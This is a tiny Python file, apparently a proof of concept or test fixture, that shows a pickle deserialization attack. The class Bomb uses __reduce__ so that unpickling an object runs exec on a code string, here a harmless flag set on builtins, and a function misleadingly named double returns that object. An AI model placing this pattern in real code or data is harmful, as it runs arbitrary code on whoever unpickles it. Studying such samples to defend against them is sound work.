"""Returns an object that runs code in whoever unpickles it."""


class Bomb:
    def __reduce__(self):
        return exec, ("import builtins; builtins.OWNED = True",)


def double(n):
    return Bomb()
